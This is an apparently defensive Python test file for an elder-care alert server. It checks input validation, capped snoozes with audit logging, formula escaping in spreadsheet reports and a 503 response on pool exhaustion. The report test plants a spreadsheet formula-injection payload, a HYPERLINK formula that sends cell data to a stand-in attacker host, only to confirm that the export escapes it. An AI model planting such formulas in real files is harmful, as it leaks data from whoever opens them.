"""Requests a person (or a stolen token) can send that must not break the server or silence a home:
times no calendar holds, a snooze for ever, a spreadsheet that would run a formula."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta
from typing import Any

from community_world import World, api


def test_a_time_no_calendar_holds_is_a_400_not_a_500(world: World) -> None:
    token = world.sides["kz"].tokens["grid-worker"]
    for bad in ("1e300", "inf", "-1e300", "nan", "not-a-time"):
        for path in (f"/alerts?since={bad}", f"/stats?since={bad}", f"/stats?until={bad}"):
            status, _ = api(token, "GET", path)
            assert status == 400, (path, status)


def test_a_home_cannot_be_snoozed_for_ever(world: World) -> None:
    side = world.sides["kz"]
    token = side.tokens["grid-worker"]
    path = f"/homes/{side.home.pk}/snooze"
    for until in (datetime(9999, 12, 31, tzinfo=UTC), datetime.now(UTC) + timedelta(hours=25)):
        status, body = api(token, "POST", path, {"reason": "away", "until": until.isoformat()})
        assert status == 400 and "24 hours" in str(body), (until, status, body)
    soon = (datetime.now(UTC) + timedelta(hours=2)).isoformat()
    assert api(token, "POST", path, {"reason": "x" * 201, "until": soon})[0] == 422
    ok = (datetime.now(UTC) + timedelta(hours=20)).isoformat()
    assert api(token, "POST", path, {"reason": "in hospital", "until": ok})[0] == 200
    from eldergate.community.models import AuditEntry

    snoozed = AuditEntry.objects.get(action="snoozed", object_id=str(side.home.pk))
    assert snoozed.actor_name == side.users["grid-worker"].username and snoozed.details["reason"] == "in hospital"


def test_the_report_spreadsheet_holds_text_never_formulas(world: World) -> None:
    from django.test import Client
    from openpyxl import load_workbook

    from eldergate.community.models import Alert

    side = world.sides["kz"]
    now = datetime.now(UTC)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    Alert.objects.create(alert_id="x1", gateway=side.gateway, community=side.community, kind=formula,
                         severity="critical", state="received", raised_at=now, received_at=now,
                         group_key="kz/gw1/r1/x")  # as if a box had sent it before the contract's bounds
    c = Client()
    c.force_login(side.users["community-admin"])
    r = c.get(f"/reports.xlsx?month={now:%Y-%m}")
    assert r.status_code == 200
    ws: Any = load_workbook(io.BytesIO(r.content)).active
    cells = [cell for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert any(cell.value == "'" + formula for cell in cells), "the kind is in the report, escaped"
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a cell holds a formula"


def test_an_exhausted_connection_pool_is_a_503_to_retry_not_a_500(db: Any) -> None:
    """bench/community.py --part screens: 1,000 concurrent requests on a pool of 20 left some waiting
    past the pool's 10 s; they were 500s (a fault). Overload is a 503 with Retry-After, rendered
    without the database."""
    from django.db.utils import OperationalError
    from django.test import RequestFactory
    from psycopg_pool import PoolTimeout

    from eldergate.community.web.common import server_error

    try:
        try:
            raise PoolTimeout("couldn't get a connection after 10.00 sec")
        except PoolTimeout as inner:
            raise OperationalError(str(inner)) from inner
    except OperationalError:
        r = server_error(RequestFactory().get("/api/v1/alerts"))
    assert r.status_code == 503 and r["Retry-After"] == "5"
    try:
        raise ValueError("a real fault")
    except ValueError:
        assert server_error(RequestFactory().get("/console")).status_code == 500
